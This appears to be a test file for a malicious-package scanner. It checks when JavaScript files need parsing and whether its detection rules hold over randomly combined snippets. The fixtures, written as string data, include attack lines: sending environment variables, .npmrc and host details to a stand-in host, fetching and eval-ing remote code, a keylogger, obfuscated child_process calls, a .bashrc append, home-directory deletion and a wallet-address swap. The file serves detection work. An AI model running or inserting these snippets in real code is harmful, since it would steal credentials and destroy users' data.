import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { SourceFile } from '../source/source-file.ts';
import { fileRules } from './archive-rules.ts';
import { needOf } from './needed-words.ts';

const needs = (text: string) => {
  const need = needOf(text);
  return typeof need === 'object' ? 'later' : need;
};

describe('a file is parsed', () => {
  test.each([
    [`require('child_process').exec(c)`, 'now'],
    [`require('https').get(u).end(JSON.stringify(process.env))`, 'now'],
    [`eval(Buffer.from(t, 'base64').toString())`, 'now'],
    [`fetch(u).then((r) => r.text()).then(eval)`, 'now'],
    [`require('https').get(u)`, 'later'],
    [`module.exports = JSON.stringify(process.env)`, 'later'],
    [`new Function('a', body)`, 'later'],
    [`String.fromCharCode(a)`, 'never'],
    [`fs.writeFileSync(target, text)`, 'never'],
    [`module.exports = 1`, 'never'],
  ])('%s: %s', (text, expected) => {
    expect(needs(text)).toBe(expected);
  });
});

/** Parts of attacks and of honest code, which may stand beside each other in any combination. */
const statements = [
  `const { exec: run } = require('child_process');`,
  `const env = process.env;`,
  `const hidden = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString();`,
  `const joined = 'child_' + 'process';`,
  `const letters = String.fromCharCode(101, 118, 97, 108);`,
  `require('https').request({ host: 'x.invalid' }).end(JSON.stringify(process.env));`,
  `require('https').get('https://x.invalid', (r) => r.on('data', (d) => eval(d.toString())));`,
  `fetch('https://x.invalid', { method: 'POST', body: require('os').hostname() + require('os').userInfo().username + process.cwd() });`,
  `fetch('https://x.invalid', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.npmrc') });`,
  `new Function('a', Buffer.from(a, 'hex').toString())();`,
  `globalThis[letters](code);`,
  `require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec(c);`,
  `require('child_' + 'process').exec(c);`,
  `require('fs').appendFileSync(require('os').homedir() + '/.bashrc', line);`,
  `require('fs').writeFileSync('../left-pad/index.js', text);`,
  `require('fs').unlinkSync(__filename);`,
  `require('fs').rmSync(require('os').homedir(), { recursive: true });`,
  `require('fs').writeFileSync('./payload.js', Buffer.from(text, 'base64')); require('./payload.js');`,
  `import('https://x.invalid/a.mjs');`,
  `document.addEventListener('keydown', (e) => fetch('https://x.invalid?' + e.key));`,
  `window.fetch = () => '0x71C7656EC7ab88b098defB751B7401B5f6d8976F';`,
  `module.exports = (a) => a + 1;`,
];

test('a rule finds nothing over the tree of a file that is not parsed at once', () => {
  const program = fc.subarray(statements, { maxLength: 5 }).map((parts) => parts.join('\n'));
  const findings = (text: string, isTextOnly: boolean) => {
    const file = new SourceFile('index.js', 'javascript', text, { isTextOnly });
    return fileRules.flatMap((rule) =>
      [...rule.check(file)].map((hit) => `${rule.id} ${hit.tier ?? rule.tier}`),
    );
  };
  fc.assert(
    fc.property(program, (text) => {
      if (needs(text) !== 'now') expect(findings(text, false)).toEqual(findings(text, true));
    }),
    { numRuns: 1_000 },
  );
});
